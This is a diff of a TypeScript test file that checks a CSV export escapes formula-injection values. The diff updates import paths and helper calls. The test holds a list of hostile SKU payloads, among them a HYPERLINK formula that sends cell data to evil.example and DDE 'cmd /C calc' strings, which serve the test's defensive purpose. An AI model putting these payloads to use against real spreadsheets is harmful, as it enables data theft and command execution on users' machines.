@@ -2,9 +2,9 @@
 // formula there (OWASP "CSV injection"), so such cells get a leading single quote and are quoted.
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
-import { csvCell, csvLine } from '../../src/platform/csv-writer.ts';
+import { csvCell, csvLine } from '../../src/admin/csv-writer.ts';
 import { useTestDaemon } from '../helpers/daemon.ts';
-import { responsive, until } from './helpers.ts';
+import { until } from '../helpers/until.ts';
 
 /** Skus a shop (or an attacker with its key) may send: each would run as a formula unescaped. */
 const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
@@ -37,7 +37,6 @@ describe('CSV writer', () => {
 const TOKEN = 'admin-token-for-csv-tests-012345';
 const daemon = await useTestDaemon({ env: { WAYBILL_ADMIN_TOKEN: TOKEN } });
 const app = daemon.app!;
-await responsive(app);
 
 describe('GET /admin/api/feeds/{feed}/errors.csv', () => {
   it('writes hostile skus as text a spreadsheet will not evaluate', async () => {
@@ -46,7 +45,7 @@ describe('GET /admin/api/feeds/{feed}/errors.csv', () => {
     const put = await app.inject({ method: 'PUT', url: `/shops/${shopPk}/products/`, headers: auth, payload: hostile.map((sku) => ({ sku, price: 1 })) });
     expect(put.statusCode, put.body).toBe(201);
     const feedPk = (put.json() as { pk: string }).pk;
-    await until(async () => (['done', 'failed'].includes((await daemon.services.feeds.getAny(feedPk)).state) ? true : undefined), 'the feed');
+    await until('the feed', async () => (['done', 'failed'].includes((await daemon.services.feeds.getAny(feedPk)).state)));
     const csv = await app.inject({ url: `/admin/api/feeds/${feedPk}/errors.csv`, headers: { authorization: `Bearer ${TOKEN}` } });
     expect(csv.statusCode).toBe(200);
     const rows = parseCsv(csv.body);
